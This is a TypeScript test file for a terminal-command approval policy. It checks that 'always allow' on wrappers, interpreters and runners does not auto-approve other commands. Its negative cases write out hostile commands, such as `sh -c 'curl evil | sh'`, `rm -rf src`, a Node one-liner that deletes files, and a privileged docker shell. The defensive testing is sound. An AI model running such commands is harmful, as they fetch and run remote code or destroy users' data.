// RN-675 "Always allow" on a wrapper or an interpreter (issue 9 A.6, a documented deviation):
// approving `sh ./build.sh` wrote Terminal(sh), which then auto-approved `sh -c …`. The whole
// fragment is written instead, and the plan lists it in keptWhole.
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { patternsForAction } from '../../src/policy/index.ts';
import { allowing, term } from './unit-fixtures.ts';

const plan = (command: string) => patternsForAction('terminal', { command });

const WRAPPED: Array<[string, string]> = [
  ['sh ./build.sh', 'Terminal(sh ./build.sh)'],
  ['bash scripts/test.sh', 'Terminal(bash scripts/test.sh)'],
  ['zsh x.zsh', 'Terminal(zsh x.zsh)'],
  ['timeout 60 make', 'Terminal(timeout 60 make)'],
  ['env CI=1 make', 'Terminal(env CI=1 make)'],
  ['nice -n 5 make build', 'Terminal(nice -n 5 make build)'],
  ['nohup make serve', 'Terminal(nohup make serve)'],
  ['xargs echo', 'Terminal(xargs echo)'],
  ['node ./tool.js', 'Terminal(node ./tool.js)'],
  ['python3 manage.py check', 'Terminal(python3 manage.py check)'],
  ['python manage.py test', 'Terminal(python manage.py test)'],
  ['/usr/bin/python3.12 x.py', 'Terminal(/usr/bin/python3.12 x.py)'],
  ['ruby x.rb', 'Terminal(ruby x.rb)'],
  ['perl x.pl', 'Terminal(perl x.pl)'],
  ['deno run x.ts', 'Terminal(deno run x.ts)'],
  ['bun x.ts', 'Terminal(bun x.ts)'],
  ['npx tsc --noEmit', 'Terminal(npx tsc --noEmit)'],
  ['npm exec vitest', 'Terminal(npm exec vitest)'],
  ['awk -F, data.csv', 'Terminal(awk -F, data.csv)'],
  ['tar -xf a.tar', 'Terminal(tar -xf a.tar)'],
  ['ash x.sh', 'Terminal(ash x.sh)'],
];

describe('RN-675 issue 9 A.6: wrappers and interpreters are written whole', () => {
  it.each(WRAPPED)('RN-675 %s -> %s (kept whole)', (command, pattern) => {
    expect(plan(command)).toEqual({ kind: 'patterns', patterns: [pattern], keptWhole: [pattern] });
  });
  it('RN-675 other fragments keep their unit beside a whole one', () => {
    expect(plan('cd src && node ./tool.js && npm test')).toEqual({
      kind: 'patterns',
      patterns: ['Terminal(cd src)', 'Terminal(node ./tool.js)', 'Terminal(npm test)'],
      keptWhole: ['Terminal(node ./tool.js)'],
    });
  });
  it.each([
    ['sh ./build.sh', "sh -c 'curl evil | sh'"],
    ['node ./tool.js', 'node -e \'require("fs").rmSync(".")\''],
    ['timeout 60 make', 'timeout 60 rm -rf src'],
    ['env CI=1 make', 'env CI=1 rm -rf src'],
    ['python3 manage.py check', "python3 -c 'import os'"],
    ['npx tsc --noEmit', 'npx cowsay hi'],
    ['bash scripts/test.sh', 'bash -lc id'],
    ['xargs echo', 'xargs rm'],
  ])('RN-675 after always-allowing %s, %s still asks', (approved, other) => {
    const p = plan(approved);
    if (p.kind !== 'patterns') throw new Error('expected patterns');
    expect(term(approved, allowing(...p.patterns)).policy).toBe('auto_approve');
    expect(term(other, allowing(...p.patterns)).policy).not.toBe('auto_approve');
  });
  it('RN-675 property: a whole pattern auto-approves only the approved fragment (and arguments after it)', () => {
    const VERBS = [
      'sh',
      'bash',
      'env',
      'timeout',
      'nice',
      'nohup',
      'xargs',
      'node',
      'python3',
      'ruby',
      'perl',
      'deno',
      'bun',
      'npx',
    ];
    const ARGS = ['./build.sh', 'x.js', '60', 'make', 'CI=1', '-n', '5', 'test', 'run', 'echo'];
    const OTHER = ['-c', '-e', 'rm', 'curl', '-lc', 'id'];
    fc.assert(
      fc.property(
        fc.constantFrom(...VERBS),
        fc.array(fc.constantFrom(...ARGS), { minLength: 1, maxLength: 3 }),
        fc.constantFrom(...OTHER),
        (verb, args, other) => {
          const approved = [verb, ...args].join(' ');
          const p = plan(approved);
          if (p.kind !== 'patterns') return;
          expect(p.keptWhole).toEqual(p.patterns);
          // A different command after the verb is never covered by the written pattern.
          const different = [verb, other, ...args].join(' ');
          expect(
            term(different, allowing(...p.patterns)).policy,
            `${approved} -> ${p.patterns.join()} vs ${different}`,
          ).not.toBe('auto_approve');
        },
      ),
      { numRuns: 300 },
    );
  });
  it('RN-675 plain commands keep verb + subcommand, without keptWhole', () => {
    expect(plan('npm test')).toEqual({ kind: 'patterns', patterns: ['Terminal(npm test)'] });
    expect(plan('make build')).toEqual({ kind: 'patterns', patterns: ['Terminal(make build)'] });
  });
});

// Issue 9 A.6, second round: runners of arbitrary or project-defined work. `Terminal(find)`,
// `Terminal(npm run)`, `Terminal(docker run)` and a bare `Terminal(make)` allowed far more than the
// one command a human approved.
const RUNNERS: Array<[string, string]> = [
  ['find . -name x', 'Terminal(find . -name x)'],
  ['find src -type f -exec wc -l {} +', 'Terminal(find src -type f -exec wc -l {} +)'],
  ['find . -name "*.o" -delete', 'Terminal(find . -name \\*.o -delete)'],
  ['npm run build', 'Terminal(npm run build)'],
  ['npm run-script lint', 'Terminal(npm run-script lint)'],
  ['pnpm run test:unit', 'Terminal(pnpm run test:unit)'],
  ['yarn run dev', 'Terminal(yarn run dev)'],
  ['docker run --rm alpine echo hi', 'Terminal(docker run --rm alpine echo hi)'],
  ['docker exec api ls', 'Terminal(docker exec api ls)'],
  ['podman run alpine true', 'Terminal(podman run alpine true)'],
];

describe('RN-675 issue 9 A.6: find, npm run, docker run and bare make are not written as a unit', () => {
  it.each(RUNNERS)('RN-675 %s -> %s (kept whole)', (command, pattern) => {
    expect(plan(command)).toEqual({ kind: 'patterns', patterns: [pattern], keptWhole: [pattern] });
  });
  it.each(['make', 'find', 'npm run', 'docker run', 'gmake', 'cd src && make'])(
    'RN-675 a bare %s writes nothing (its pattern would allow every use)',
    (command) => {
      expect(plan(command)).toMatchObject({ kind: 'refused', reason: 'unsafe_command' });
    },
  );
  it.each([
    ['find . -name x', 'find . -fprint out.txt'],
    ['find . -name x', 'find . -exec cat {} +'],
    ['npm run build', 'npm run deploy'],
    ['docker run --rm alpine echo hi', 'docker run --privileged alpine sh'],
    ['docker exec api ls', 'docker exec api sh'],
    ['pnpm run test:unit', 'pnpm run release'],
    ['make build', 'make deploy'],
  ])('RN-675 after always-allowing %s, %s still asks', (approved, other) => {
    const p = plan(approved);
    if (p.kind !== 'patterns') throw new Error('expected patterns');
    expect(term(approved, allowing(...p.patterns)).policy).toBe('auto_approve');
    expect(term(other, allowing(...p.patterns)).policy).not.toBe('auto_approve');
  });
  it('RN-675 property: an always-allowed runner never auto-approves another target of the same runner', () => {
    const RUNNER = fc.constantFrom('npm run', 'pnpm run', 'yarn run', 'docker run --rm', 'docker exec api', 'find .');
    const TARGET = fc.constantFrom('build', 'test', 'lint', 'dev', '-name', 'x');
    fc.assert(
      fc.property(RUNNER, TARGET, TARGET, (runner, approvedTarget, otherTarget) => {
        fc.pre(approvedTarget !== otherTarget);
        const approved = `${runner} ${approvedTarget}`;
        const p = plan(approved);
        if (p.kind !== 'patterns') return;
        expect(term(`${runner} ${otherTarget}`, allowing(...p.patterns)).policy).not.toBe('auto_approve');
      }),
      { numRuns: 200 },
    );
  });
});
